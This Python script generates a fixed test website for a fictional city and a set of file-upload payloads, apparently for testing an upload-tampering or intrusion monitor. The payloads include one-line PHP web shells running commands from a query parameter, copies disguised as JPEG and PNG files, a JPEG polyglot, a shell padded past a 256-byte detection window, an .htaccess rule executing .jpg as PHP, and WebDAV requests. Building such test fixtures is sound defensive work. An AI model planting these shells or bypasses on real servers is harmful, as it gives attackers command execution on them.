#!/usr/bin/env python3
"""Write the test website and the upload payloads, with fixed contents.

usage: mkfiles.py SITE_DIR FILES_DIR

Everything is generated here (no randomness, no clock), so two runs write
byte-identical files.  The one exception is elf-head.bin, copied from the
first 2 KiB of /bin/true (a real ELF binary of the machine).
"""
import hashlib
import os
import struct
import sys
import zlib


def stream(n, seed=b"tamperwatch"):
    """n deterministic, incompressible bytes."""
    out = bytearray()
    i = 0
    while len(out) < n:
        out += hashlib.sha256(seed + i.to_bytes(8, "big")).digest()
        i += 1
    return bytes(out[:n])


def png(w, h, rgb=(40, 90, 160)):
    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d))
    raw = b"".join(b"\x00" + bytes(rgb) * w for _ in range(h))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b""))


def jpeg(comment=b""):
    """A valid 8x8 grey baseline JPEG (one DC code, one EOB code)."""
    seg = lambda m, d: b"\xff" + bytes([m]) + struct.pack(">H", len(d) + 2) + d
    out = b"\xff\xd8"
    out += seg(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")
    if comment:
        out += seg(0xFE, comment)
    out += seg(0xDB, b"\x00" + bytes([1] * 64))                         # DQT
    out += seg(0xC0, b"\x08\x00\x08\x00\x08\x01\x01\x11\x00")             # SOF0 8x8 grey
    out += seg(0xC4, b"\x00" + bytes([1] + [0] * 15) + b"\x00")          # DHT DC: cat 0
    out += seg(0xC4, b"\x10" + bytes([1] + [0] * 15) + b"\x00")          # DHT AC: EOB
    out += seg(0xDA, b"\x01\x01\x00\x00\x3f\x00")                        # SOS
    out += b"\x3f"                                                       # DC=0, EOB, pad 1s
    return out + b"\xff\xd9"


def pdf(text, pad=0):
    """A valid one-page PDF; pad adds a binary stream object of that many bytes."""
    content = b"BT /F1 18 Tf 72 720 Td (" + text.encode() + b") Tj ET"
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    if pad:
        data = stream(pad, text.encode())
        objs.append(b"<< /Length %d >>\nstream\n" % len(data) + data + b"\nendstream")
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += b"%d 0 obj\n" % i + o + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for off in offs:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    return bytes(out)


def pdf_of_size(text, total):
    base = len(pdf(text, 1)) - 1
    # /Length digits change with the pad size; adjust until exact
    pad = total - base
    for _ in range(4):
        got = len(pdf(text, pad))
        pad += total - got
    return pdf(text, pad)


def page(title, body, links):
    nav = "\n".join('  <li><a href="%s">%s</a></li>' % (h, t) for h, t in links)
    return f"""<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>{title} - City of Example</title>
<link rel="stylesheet" href="/css/site.css">
</head>
<body>
<header><img src="/img/logo.png" alt="City of Example" width="32" height="32"> City of Example</header>
<nav><ul>
{nav}
</ul></nav>
<main>
<h1>{title}</h1>
{body}
</main>
<footer>City of Example. <a href="/privacy.html">Privacy policy</a></footer>
</body>
</html>
"""


NAV = [("/", "Home"), ("/news.html", "News"), ("/permits.html", "Permits"),
       ("/about.html", "About"), ("/contact.html", "Contact")]


def site(root):
    pages = {
        "index.html": page("Welcome", "<p>Services, news and permits for residents.</p>\n"
                           '<p><a href="/news/2026-library.html">The library opens on Sundays</a></p>', NAV),
        "about.html": page("About the city", "<p>Population 12,000. Founded 1850.</p>", NAV),
        "news.html": page("News", '<ul>\n<li><a href="/news/2026-library.html">Library hours</a></li>\n'
                          '<li><a href="/news/2026-roadworks.html">Roadworks on Main Street</a></li>\n</ul>', NAV),
        "news/2026-library.html": page("Library opens on Sundays", "<p>From March, 10:00 to 16:00.</p>", NAV),
        "news/2026-roadworks.html": page("Roadworks on Main Street", "<p>Expect delays in April.</p>", NAV),
        "permits.html": page("Permits", '<p><a href="/permits/building.html">Building permits</a></p>\n'
                             '<form method="post" action="/permits/upload" enctype="multipart/form-data">\n'
                             '<input type="file" name="file"> <button>Upload (PDF, JPEG, PNG)</button>\n</form>', NAV),
        "permits/building.html": page("Building permits", "<p>Upload your plans as PDF.</p>", NAV),
        "contact.html": page("Contact", '<form method="post" action="/contact">\n<input name="name">\n'
                             '<textarea name="message"></textarea>\n<button>Send</button>\n</form>', NAV),
        "privacy.html": page("Privacy policy", "<p>Software programs monitor network traffic to identify "
                             "unauthorized attempts to upload or change information.</p>", NAV),
    }
    for name, text in pages.items():
        w(os.path.join(root, name), text.encode())
    w(os.path.join(root, "css/site.css"),
      b"body { font-family: sans-serif; margin: 2em; color: #222; }\n"
      b"header { font-size: 1.5em; }\nnav ul { list-style: none; padding: 0; }\n"
      b"nav li { display: inline; margin-right: 1em; }\nfooter { margin-top: 3em; font-size: .8em; }\n")
    w(os.path.join(root, "img/logo.png"), png(32, 32))
    w(os.path.join(root, "robots.txt"), b"User-agent: *\nDisallow: /admin/\n")
    w(os.path.join(root, "files/large.bin"), stream(512 << 10, b"large"))    # 512 KiB, not linked
    w(os.path.join(root, "files/medium.bin"), stream(128 << 10, b"medium"))  # 128 KiB, not linked


def files(d):
    php = b"<?php system($_GET['c']); ?>\n"
    w(os.path.join(d, "permit.pdf"), pdf("Permit application 2026-0042"))
    w(os.path.join(d, "permit-4k.pdf"), pdf_of_size("Permit application 2026-0043", 4096))
    w(os.path.join(d, "plans-200k.pdf"), pdf_of_size("Site plans 2026-0044", 200 * 1024))
    w(os.path.join(d, "oversized.pdf"), pdf_of_size("Site plans 2026-0045", 1100 * 1024))
    w(os.path.join(d, "photo.jpg"), jpeg())
    w(os.path.join(d, "site-plan.png"), png(8, 8))
    w(os.path.join(d, "shell.php"), php)
    w(os.path.join(d, "php-content.jpg"), b"<?php system($_GET[c]); ?>\n")
    w(os.path.join(d, "php-content.png"), b"<?php echo shell_exec($_GET['cmd']); ?>\n")
    w(os.path.join(d, "polyglot.jpg"), jpeg(comment=b"<?php system($_GET['c']); __halt_compiler(); ?>"))
    # PHP past the first 256 bytes of a real JPEG (pcaps/evasion/sniff-window.pcap)
    w(os.path.join(d, "padded-shell.jpg"), jpeg(comment=b" " * 3000 + php))
    w(os.path.join(d, "htaccess"), b"AddType application/x-httpd-php .jpg\n")
    w(os.path.join(d, "webdav-proppatch.xml"),
      b'<?xml version="1.0" encoding="utf-8"?>\n<D:propertyupdate xmlns:D="DAV:">'
      b"<D:set><D:prop><D:displayname>owned</D:displayname></D:prop></D:set></D:propertyupdate>\n")
    w(os.path.join(d, "webdav-lock.xml"),
      b'<?xml version="1.0" encoding="utf-8"?>\n<D:lockinfo xmlns:D="DAV:"><D:lockscope><D:exclusive/>'
      b"</D:lockscope><D:locktype><D:write/></D:locktype><D:owner>x</D:owner></D:lockinfo>\n")
    # privacy canaries
    w(os.path.join(d, "canary.pdf"), pdf("CANARY_FILE_6e2d"))
    w(os.path.join(d, "canary-shell.php"), b"<?php /* CANARY_FILE_6e2d */ system($_GET['c']); ?>\n")
    with open("/bin/true", "rb") as f:
        w(os.path.join(d, "elf-head.bin"), f.read(2048))


def w(path, data):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)


if __name__ == "__main__":
    site(sys.argv[1])
    files(sys.argv[2])
